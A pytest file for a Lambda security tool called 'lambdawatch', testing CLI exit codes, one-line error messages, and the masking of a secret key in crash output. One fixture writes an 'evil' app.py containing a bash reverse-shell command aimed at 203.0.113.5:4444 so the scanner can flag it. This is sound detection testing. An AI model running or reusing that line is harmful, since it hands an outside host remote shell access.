"""Exit codes through the real entry point: 0 done, 1 alerts/findings at or above --fail-on,
2 bad usage or unreadable input, 3 internal error (one line naming command and input; the
traceback only with --debug), 130 interrupted."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import click
import pytest

from lambdawatch.cli import main
from lambdawatch.cli.exits import describe_invocation
from tests.analyze.helpers import create_fn, update_code
from tests.conftest import ROOT, delivery_bytes, write
from tests.hardening.corpus import CLEAR_THEN_ALL_CLEAR, KEY_ID, assert_inert


def _trail(tmp_path: Path) -> Path:
    return write(
        tmp_path / "logs" / "trail.json",
        delivery_bytes(
            [create_fn(1, "payments-api"), update_code(2, "orders-api", "2025-03-14T10:00:00Z")]
        ),
    )


def test_0_done_and_1_at_or_above_fail_on(tmp_path, lw) -> None:
    path = str(_trail(tmp_path))
    assert lw("hunt", path, "--workers", "1", "-q")[0] == 0
    assert lw("hunt", path, "--workers", "1", "-q", "--fail-on", "critical")[0] == 1
    benign = tmp_path / "benign"
    benign.mkdir()
    (benign / "app.py").write_text("def handler(event, context):\n    return 1\n")
    evil = tmp_path / "evil"
    evil.mkdir()
    (evil / "app.py").write_text(
        "import os\nos.system('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1')\n"
    )
    assert lw("scan", str(benign), "--fail-on", "info")[0] == 0
    assert lw("scan", str(evil))[0] == 1
    assert lw("rules", "list")[0] == 0


@pytest.mark.parametrize(
    "argv, message",
    [
        (["hunt", "--format", "bogus", "x"], "Invalid value for '--format'"),
        (["hunt", "/nonexistent/trail.json"], "/nonexistent/trail.json: no such file or folder"),
        (["nosuchcommand"], "No such command 'nosuchcommand'"),
        (["scan", "/nonexistent.zip"], "scan target not found"),
        (["rules", "show", "LW999"], "no such rule: LW999"),
        (["explain", "lw-0", "--state", "/nonexistent.db"], "does not exist"),
    ],
)
def test_2_bad_usage_is_one_line(lw, argv: list[str], message: str) -> None:
    code, out, err = lw(*argv)
    assert code == 2
    assert out == ""
    [line] = err.splitlines()
    assert line.startswith("lambdawatch: error: ") and message in line


def test_2_nothing_readable_and_a_bad_config(tmp_path, lw) -> None:
    junk = write(tmp_path / "junk.json", b"\x00\x01 not json")
    code, _, err = lw("hunt", str(junk), "--workers", "1")
    assert code == 2
    assert err.splitlines()[-1] == "lambdawatch: error: no input could be read"
    config = tmp_path / "lw.toml"
    config.write_text("[nosuchtable]\nx = 1\n", encoding="utf-8")
    code, _, err = lw("hunt", str(_trail(tmp_path)), "--config", str(config), "--workers", "1")
    assert code == 2
    assert err.startswith("lambdawatch: error: ") and "nosuchtable" in err


def _crashing_group() -> click.Group:
    """The real top-level options and callback (--debug), plus a command with a bug in it."""
    group = click.Group("lambdawatch", params=list(main.params), callback=main.callback)

    @group.command("crash")
    @click.argument("paths", nargs=-1)
    @click.option("--state", "state_path")
    def crash(paths: tuple[str, ...], state_path: str | None) -> None:
        raise KeyError(f"{CLEAR_THEN_ALL_CLEAR} {KEY_ID}")

    @group.command("interrupt")
    def interrupt() -> None:
        raise KeyboardInterrupt

    return group


def test_3_internal_error_is_one_line_naming_command_and_input(lw) -> None:
    code, out, err = lw(
        "crash", "logs/", "s3://bucket/p", "--state", "s.db", group=_crashing_group()
    )
    assert code == 3
    assert out == ""
    [line] = err.splitlines()
    assert line.startswith(
        "lambdawatch: internal error in `crash logs/ s3://bucket/p s.db`: KeyError: "
    )
    assert line.endswith("(rerun with `lambdawatch --debug ...` for the traceback)")
    assert_inert(line)
    assert KEY_ID not in line and "****(20 chars)" in line


def test_3_with_debug_shows_the_traceback(lw) -> None:
    code, _, err = lw("--debug", "crash", "x", group=_crashing_group())
    assert code == 3
    lines = err.splitlines()
    assert lines[0] == "Traceback (most recent call last):"
    assert any("raise KeyError" in line for line in lines)
    assert lines[-1].startswith("lambdawatch: internal error in `crash x`: KeyError: ")
    assert "rerun with" not in lines[-1]
    assert_inert(err)


def test_130_interrupted(lw) -> None:
    code, _, err = lw("interrupt", group=_crashing_group())
    assert code == 130
    assert err.splitlines()[-1] == "lambdawatch: interrupted"


def test_describe_invocation_names_nested_commands_and_inputs() -> None:
    assert describe_invocation(main, ["rules", "test", "LW101", "--verbose"]) == "rules test LW101"
    assert (
        describe_invocation(
            main, ["--debug", "hunt", "a/", "b.json.gz", "--format", "jsonl", "--state", "s.db"]
        )
        == "hunt a/ b.json.gz s.db"
    )
    assert describe_invocation(main, ["scan", "fn.zip", "--format", "sarif"]) == "scan fn.zip"
    assert describe_invocation(main, ["--bogus"]) == "lambdawatch"


def test_the_console_script_path_exits_2_on_bad_usage(tmp_path) -> None:
    """``python -m lambdawatch`` (what the console script runs) maps errors the same way."""
    env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
    done = subprocess.run(
        [sys.executable, "-m", "lambdawatch", "hunt", str(tmp_path / "nope")],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
        check=False,
    )
    assert done.returncode == 2
    assert done.stderr.strip().endswith("nope: no such file or folder")
    assert "Traceback" not in done.stderr
